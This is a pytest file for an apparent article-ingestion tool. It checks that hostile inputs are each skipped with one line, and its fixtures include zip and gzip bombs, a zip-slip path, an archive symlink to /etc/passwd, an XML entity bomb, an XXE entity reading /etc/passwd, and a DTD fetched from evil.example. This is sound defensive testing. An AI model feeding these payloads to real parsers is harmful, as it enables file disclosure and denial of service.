"""Each shape of hostile file costs one line, which says what, where and what to try; the rest is read."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from provenance.cli import cli
from provenance.dates import resolve_published
from provenance.errors import InputError
from provenance.ingest import Limits, read_documents
from tests.unit.ingest.formats import a_warc, a_zip

PAGE = b"<html><head>%s</head><body><article>%s</article></body></html>"
WORDS = b"<p>The council met on the ferry, and nobody said why it had to be there.</p>"
BLANK_LINES = (b" " * 9_999 + b"\n") * 6_000
BOMB = b"<!DOCTYPE rss [<!ENTITY a 'lol'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9)
)
RSS = b"%s]><rss><channel><item><description>&j;</description></item></channel></rss>"


def a_link_in_a_zip() -> bytes:
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return packed.getvalue()


def bad_parquet() -> bytes:
    return b"PAR1" + bytes(range(200)) + b"\x10\x00\x00\x00PAR1"


HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    (
        "bomb.txt.gz",
        lambda: gzip.compress(bytes(60_000_000)),
        "bomb.txt: larger than 10 MB, which no article is; split it or give .jsonl",
    ),
    (
        "bomb.jsonl.gz",
        lambda: gzip.compress(BLANK_LINES),
        "bomb.jsonl: unpacks to more than 50 MB, as a zip bomb does; unpack it yourself",
    ),
    (
        "nested.zip",
        lambda: a_zip({"feed.jsonl.gz": gzip.compress(BLANK_LINES)}),
        "nested.zip/feed.jsonl: unpacks to more than 50 MB, as a zip bomb does; unpack it yourself",
    ),
    (
        "inner.zip",
        lambda: a_zip({"again.zip": a_zip({"a.txt": b"Words."})}),
        "inner.zip/again.zip: an archive in an archive; unpack it yourself",
    ),
    (
        "slip.zip",
        lambda: a_zip({"../../out.txt": b"Words."}),
        "slip.zip/../../out.txt: its name in the archive leads out of it; pack it anew under a plain name",
    ),
    (
        "link.zip",
        a_link_in_a_zip,
        "link.zip/link.txt: a link inside an archive; pack the file itself",
    ),
    (
        "deep.html",
        lambda: PAGE % (b"", b"<div>" * 100_000 + b"words"),
        "deep.html: a page nested more than 250 deep, which no article is; save its words as .txt",
    ),
    (
        "wide.html",
        lambda: PAGE % (b"", b"<i>x</i>" * 60_000),
        "wide.html: a page of more than 50,000 elements, which no article is; save its words as .txt",
    ),
    (
        "crowded.html",
        lambda: PAGE % (b"", b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">words"),
        "crowded.html: a page with an element of more than 1,000 attributes, which no article has; "
        "save its words as .txt",
    ),
    (
        "large.html",
        lambda: b"<p>" * 7_000_000,
        "large.html: a page larger than 20 MB; save it without its pictures",
    ),
    (
        "links.html",
        lambda: PAGE % (b"", b"<img src=a.png>"),
        "links.html: a page without an article, links or pictures only; save its words as .txt",
    ),
    (
        "deep.json",
        lambda: b'{"text":' + b"[" * 500_000,
        "deep.json: nested too deeply to hold articles; give a list of articles",
    ),
    (
        "deep.xml",
        lambda: b"<rss>" + b"<a>" * 100_000,
        "deep.xml: nested more than 200 deep, which no feed is; give its articles as .txt",
    ),
    (
        "laughs.xml",
        lambda: RSS % BOMB,
        "laughs.xml: declares XML entities of its own, as an XML bomb does; save it without its DOCTYPE",
    ),
    (
        "outside.xml",
        lambda: RSS % b"<!DOCTYPE rss [<!ENTITY j SYSTEM 'file:///etc/passwd'>",
        "outside.xml: declares XML entities of its own, as an XML bomb does; save it without its DOCTYPE",
    ),
    (
        "parameter.xml",
        lambda: RSS % b"<!DOCTYPE rss [<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;",
        "parameter.xml: declares XML entities of its own, as an XML bomb does; save it without its DOCTYPE",
    ),
    (
        "open.csv",
        lambda: b'text,outlet\n"never closed' + (b"line," * 2_000 + b"\n") * 1_200,
        "open.csv: row 1: a field larger than 10 MB; look for a quotation mark left open",
    ),
    (
        "columns.csv",
        lambda: b"text" + b",a" * 200_000 + b"\nWords.\n",
        "columns.csv: a first line longer than 100,000 letters; is it a table with a header?",
    ),
    (
        "line.jsonl",
        lambda: b'{"text": "' + b"x" * 200_000_000 + b'"}',
        "line.jsonl#1: a line longer than 20 MB, which no article is; correct or remove this row",
    ),
    (
        "pretends.parquet",
        bad_parquet,
        "pretends.parquet: a broken Parquet file; write it anew",
    ),
    (
        "cut.warc",
        lambda: b"no archive at all\r\n\r\n",
        "cut.warc: a web archive that breaks off after 0 pages; fetch it anew",
    ),
    (
        "empty.wacz",
        lambda: a_zip({"pages/pages.jsonl": b"{}"}),
        "empty.wacz: a web archive without WARC files in it; fetch it anew",
    ),
    (
        "picture.txt",
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
        "picture.txt: not text but a PNG image; save its words as .txt",
    ),
]


@pytest.mark.parametrize(("name", "make", "line"), HOSTILE, ids=[one[0] for one in HOSTILE])
def test_a_hostile_file_costs_its_one_line(
    tmp_path: Path, name: str, make: Callable[[], bytes], line: str
) -> None:
    (tmp_path / "good.txt").write_text("“A good article,” said Ann Lee, the mayor of Exampletown.")
    (tmp_path / name).write_bytes(make())

    ran = CliRunner().invoke(cli, ["quotes", str(tmp_path), "--jsonl"])

    assert ran.stderr.splitlines() == [f"skipped {line}", "1 read, 1 skipped"]
    assert (ran.exit_code, ran.stdout.count("\n")) == (0, 1)


def test_a_device_is_not_read() -> None:
    with pytest.raises(InputError, match="not a file or folder but a device or pipe"):
        read_documents("/dev/zero")


def test_a_doctype_alone_is_no_attack_and_is_not_fetched(tmp_path: Path) -> None:
    feed = b'<!DOCTYPE rss SYSTEM "https://evil.example/rss.dtd"><rss><channel><item><title>T</title>'
    feed += b"<description>Caf&eacute;&nbsp;news.</description></item></channel></rss>"
    (tmp_path / "feed.xml").write_bytes(feed)

    (document,) = read_documents(tmp_path)

    assert document.text == "Café\u00a0news."


@pytest.mark.parametrize(
    "written",
    [
        *("9999-99-99", "0000-00-00", "-1", "1" * 400, "1970-01-01T00:00:00Z", "31.02.2020", "tomorrow"),
        *("\u202e2020", "99999999-10-07", "2020-10-07T99:99:99+99:99", "NaN", "Infinity"),
    ],
)
def test_absurd_dates_are_kept_as_written_and_date_nothing(tmp_path: Path, written: str) -> None:
    (tmp_path / "a.txt").write_text(f"---\npublished: {written}\noutlet: Gazette\n---\nWords.")

    (document,) = read_documents(tmp_path)
    interval = resolve_published(document)

    assert document.text == "Words."
    assert interval.earliest is None or "2020-10-0" in interval.earliest


def test_controls_and_bidi_overrides_stay_in_the_text_and_show_in_names(tmp_path: Path) -> None:
    words = "“Ab\u202ecd\u202c,” he\u2066 said.\x1b[31m"
    (tmp_path / "a.txt").write_text(f"---\ntitle: T\u202eX\x07\noutlet: G\u2066\n---\n{words}")

    (document,) = read_documents(tmp_path)

    assert (document.text, document.title, document.outlet) == (words, "T\ufffdX\ufffd", "G\ufffd")


def test_lone_surrogates_and_nuls_become_the_replacement_mark(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text('{"text": "a\\ud800b\\u0000c", "title": "\\udfff"}')

    (document,) = read_documents(tmp_path)

    assert (document.text, document.title) == ("a\ufffdb\ufffdc", "\ufffd")


def test_pages_of_a_broken_archive_that_came_before_are_read(tmp_path: Path) -> None:
    warc = a_warc({"https://gazette.example/one": PAGE % (b"", WORDS * 8)})
    (tmp_path / "cut.warc.gz").write_bytes(gzip.compress(warc)[:-4])

    corpus = read_documents(tmp_path)

    assert [one.id for one in corpus] == ["cut#1"]
    assert len(corpus.skipped) == 1


def test_an_archive_of_records_of_wrong_length_is_named_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    warc = a_warc({"https://gazette.example/one": PAGE % (b"", WORDS * 8)})
    (tmp_path / "crawl.warc").write_bytes(warc + b"WARC/1.0\r\nContent-Length: 2\r\n\r\nfar more\r\n")

    corpus = read_documents(tmp_path)

    assert [one.id for one in corpus] == ["crawl#1"]
    assert [one.path for one in corpus.skipped] == ["crawl.warc"]
    assert capsys.readouterr().err == ""


def test_items_before_a_break_in_a_feed_are_read(tmp_path: Path) -> None:
    item = b"<item><description>Words.</description></item>"
    (tmp_path / "feed.rss").write_bytes(b"<rss><channel>" + item + b"\n<item>a & b</item>")

    corpus = read_documents(tmp_path)

    assert [one.id for one in corpus] == ["feed#1"]
    assert [(one.path, one.reason) for one in corpus.skipped] == [
        ("feed.rss#2", "not well-formed XML, line 2; correct or remove this row")
    ]


def test_a_page_bomb_in_a_web_archive_costs_its_page(tmp_path: Path) -> None:
    pages = {
        "https://gazette.example/a": PAGE % (b"", b"<p>x" * 9_000),
        "https://gazette.example/b": PAGE % (b"", WORDS * 8),
    }
    (tmp_path / "crawl.warc").write_bytes(a_warc(pages))

    corpus = read_documents(tmp_path, limits=Limits(page_bytes=20_000))

    assert [one.id for one in corpus] == ["crawl#2"]
    assert [one.path for one in corpus.skipped] == ["crawl.warc#1"]


@pytest.mark.parametrize(
    ("name", "extra", "module"),
    [("a.html", "web", "trafilatura"), ("a.warc", "warc", "warcio"), ("a.parquet", "parquet", "pyarrow")],
)
def test_a_format_without_its_extra_says_which(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, extra: str, module: str
) -> None:
    (tmp_path / "good.txt").write_text("A good article.")
    (tmp_path / name).write_bytes(b"<html>")
    for one in (module, f"{module}.archiveiterator"):
        monkeypatch.setitem(__import__("sys").modules, one, None)

    (skipped,) = read_documents(tmp_path).skipped

    assert skipped.path == name
    assert skipped.reason.endswith(f"reading those needs an extra; pip install 'quote-provenance[{extra}]'")
